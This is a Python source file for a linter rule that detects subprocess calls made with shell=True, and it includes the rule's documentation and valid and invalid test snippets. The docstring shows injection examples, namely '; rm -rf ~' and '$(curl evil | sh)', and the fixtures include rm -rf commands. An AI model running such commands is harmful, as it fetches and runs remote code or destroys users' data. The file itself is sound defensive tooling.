from __future__ import annotations

import re
from typing import Any

import libcst as cst

from stagewarden.rule import HIGH, LOW, MEDIUM, Invalid, PythonRule
from stagewarden.rules.insecure_defaults.common import shell_safe

_SUBPROCESS_FUNCTIONS = ("Popen", "run", "call", "check_call", "check_output")
_SUBPROCESS_CALLS = frozenset(
    [
        f"{module}.{function}"
        for module in ("subprocess", "subprocess32", "gevent.subprocess", "eventlet.green.subprocess")
        for function in _SUBPROCESS_FUNCTIONS
    ]
    + ["psutil.Popen"]
)


def _shell_is_on(ctx, value: cst.BaseExpression) -> bool:
    """True for a constant truthy `shell=` value (True, 1, "yes"); False when off or dynamic."""
    flag: Any = ctx.literal(value)
    return isinstance(flag, (bool, int, float, str, bytes)) and bool(flag)


# Names of functions that run what they are given: run_command, _invoker, spawn, execute ...
_RUNS_COMMANDS = re.compile(r"(?:^|_)(?:run|call|exec|execute|spawn|popen|system|command|cmd|invoke|invoker|sh|check_output)(?:_|$)", re.I)


def _callee_name(func: cst.BaseExpression) -> str:
    if isinstance(func, cst.Attribute):
        return func.attr.value
    return func.value if isinstance(func, cst.Name) else ""


class SubprocessShellTrue(PythonRule):
    """
    ## What it does
    Finds `subprocess.Popen()`, `run()`, `call()`, `check_call()` and `check_output()` (and
    the same APIs of `subprocess32`, `gevent.subprocess`, `eventlet.green.subprocess` and
    `psutil.Popen`) started with `shell=True`. The finding is high severity when the command
    is built at run time (an f-string with placeholders, `%`, `.format()`, `+` with a
    variable, a variable), and low severity when it is a constant or when every dynamic part
    is shell-quoted (`shlex.quote(x)`, `pipes.quote(x)`, `shlex.join([...])`, outside any
    quotes of the command itself). A call to any other function (a wrapper around
    subprocess) that passes `shell=True` together with a command built at run time, and not
    so quoted, is reported with low confidence.

    ## Why is this bad?
    With `shell=True` the command string is parsed by `/bin/sh` (or `cmd.exe`), so any part
    of it that comes from outside (a file name, a branch name, a form field) can add shell
    syntax: `; rm -rf ~`, `$(curl evil | sh)`, backticks, pipes. Passing the program and its
    arguments as a list without a shell makes every argument a single, literal argument.
    A constant command is not injectable, but its wildcards and variables are still expanded
    by the shell, and it is the line that later gets an f-string.

    ## Example
    ```python
    import subprocess

    subprocess.run(f"git log {branch}", shell=True, check=True)
    ```

    ## Use instead
    ```python
    import subprocess

    subprocess.run(["git", "log", branch], check=True)
    ```

    If you really need shell features, quote every dynamic part with `shlex.quote()`.

    ## Options
    None.

    ## Fix safety
    No fix is offered: turning a shell string into an argument list needs a person to decide
    how the command is split and which shell features (pipes, globs, `&&`) it relies on.

    ## References
    - [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
    - [Python documentation: subprocess security considerations](https://docs.python.org/3/library/subprocess.html#security-considerations)
    - [Python documentation: shlex.quote](https://docs.python.org/3/library/shlex.html#shlex.quote)
    """

    id = "SW110"
    name = "subprocess-shell-true"
    summary = "Subprocess started through a shell (shell=True)"
    hint = "pass the command as a list of arguments without shell=True, or shlex.quote() each dynamic part"
    severity = HIGH
    confidence = HIGH
    cwe = (78,)
    tags = ("shell", "injection")
    bandit = ("B602", "B604", "B609")
    ruff = ("S602", "S604", "S609")
    # Every finding is on a `shell=` keyword (or a `**{"shell": ...}` key): the word is always there.
    triggers = ("shell",)

    VALID = [
        "import subprocess\nsubprocess.run(cmd, shell=False)\n",
        "import subprocess\nsubprocess.run(['ls', '-l'])\n",
        "import subprocess\nsubprocess.check_output(['git', 'log', branch], text=True)\n",
        "import subprocess\nsubprocess.run(cmd, shell=use_shell)\n",
        "import subprocess\nsubprocess.run(cmd, shell=os.name == 'nt')\n",
        # A wrapper with a constant command is not injectable.
        "def sh(cmd, shell=False):\n    pass\nsh('make test', shell=True)\n",
        # A `shell` flag that is not about a command: no command-like first argument.
        "import subprocess\nterminal.open(shell=True)\n",
        # A function that only quotes for a shell does not run anything.
        "def quote(a, shell=False):\n    pass\nargs = [quote(a, shell=True) for a in argv]\ncompat_shell_quote(name, shell=True)\n",
        "import subprocess\nSHELL = None\nsubprocess.Popen(cmd, shell=SHELL)\n",
        # A wrapper given a command whose dynamic parts are all shell-quoted.
        "import shlex\ndef run_command(cmd, shell=False):\n    pass\nrun_command(f'rm -rf {shlex.quote(path)}', shell=True)\n",
    ]
    INVALID = [
        Invalid("import subprocess\nsubprocess.run(f'git log {branch}', shell=True)\n", 2),
        Invalid("import subprocess as sp\nsp.call('ls -l', shell=True)\n", 2),
        Invalid("from subprocess import check_output as co\nout = co('du -sh %s' % path, shell=1)\n", 2),
        Invalid("from subprocess import *\nPopen(cmd, shell=True)\n", 2),
        Invalid("import subprocess\nUSE_SHELL = True\nsubprocess.check_call('make ' + target, shell=USE_SHELL)\n", 3),
        Invalid("import subprocess\nsubprocess.run(args='tar czf out.tgz *', **{'shell': True})\n", 2),
        Invalid("import subprocess\nproc = subprocess.Popen(\n    'echo {}'.format(name),\n    stdout=subprocess.PIPE,\n    shell=True,\n)\n", 5),
        Invalid("import psutil\nproc = psutil.Popen(cmd, shell=True)\n", 2),
        # A project wrapper around subprocess, given a dynamic command.
        Invalid("def run_command(cmd, shell=False):\n    pass\nrun_command(f'rm -rf {path}', shell=True)\n", 3),
        # shell=True through a `**dict(...)` bound elsewhere: reported where it is passed.
        Invalid("import subprocess\nOPTS = dict(shell=True)\nsubprocess.run(cmd, **OPTS)\n", 3),
        # Every dynamic part shell-quoted: still a shell, reported with low severity like a constant.
        Invalid("import shlex, subprocess\nsubprocess.run(f'git log {shlex.quote(branch)} | head', shell=True)\n", 2),
        Invalid("import shlex, subprocess\nsubprocess.check_output(shlex.join(['du', '-sh', path]), shell=True)\n", 2),
        # A quoted part inside the command's own quotes is not quoted at all.
        Invalid("import shlex, subprocess\nsubprocess.run(f\"bash -c '{shlex.quote(script)}'\", shell=True)\n", 2),
    ]

    def visit_Call(self, node: cst.Call, ctx) -> None:
        if not any(arg.star == "**" or (arg.keyword is not None and arg.keyword.value == "shell") for arg in node.args):
            return
        shell = ctx.keyword(node, "shell")
        if shell is None or not _shell_is_on(ctx, shell):
            return
        name = ctx.match(node.func, _SUBPROCESS_CALLS)
        if name is not None:
            command = ctx.argument(node, "args", 0)
            if command is not None and ctx.is_constant_string(command):
                text = ctx.literal(command)
                extra = ", and the shell expands its wildcard" if isinstance(text, str) and "*" in text else ""
                self.report(ctx, shell, f"{name} runs a constant command through a shell{extra} (shell=True)", severity=LOW)
            elif command is not None and shell_safe(ctx, command):
                self.report(ctx, shell, f"{name} runs a command through a shell, its dynamic parts shell-quoted (shell=True)",
                            severity=LOW)
            else:
                self.report(ctx, shell, f"{name} runs a command built at run time through a shell: shell injection (shell=True)")
            return
        self._check_wrapper(node, ctx, shell)

    def _check_wrapper(self, node: cst.Call, ctx, shell: cst.BaseExpression) -> None:
        """Another function given `shell=True`: report only a command built at run time, with low confidence."""
        resolved = ctx.qualname(node.func)
        if resolved is not None and resolved.startswith("builtins."):
            return
        if not _RUNS_COMMANDS.search(_callee_name(node.func)):
            return  # `shell_quote(arg, shell=True)`, `render(t, shell=True)`: not a command runner
        command = ctx.positional(node, 0)
        for keyword in ("cmd", "command", "args"):
            if command is not None:
                break
            command = ctx.keyword(node, keyword)
        if command is None or shell_safe(ctx, command):
            return
        if isinstance(ctx.value_of(command), (cst.List, cst.Tuple, cst.Dict, cst.Integer, cst.Float, cst.Lambda)):
            return
        self.report(ctx, shell, "a command built at run time is passed with shell=True: possible shell injection (shell=True)",
                    severity=MEDIUM, confidence=LOW)
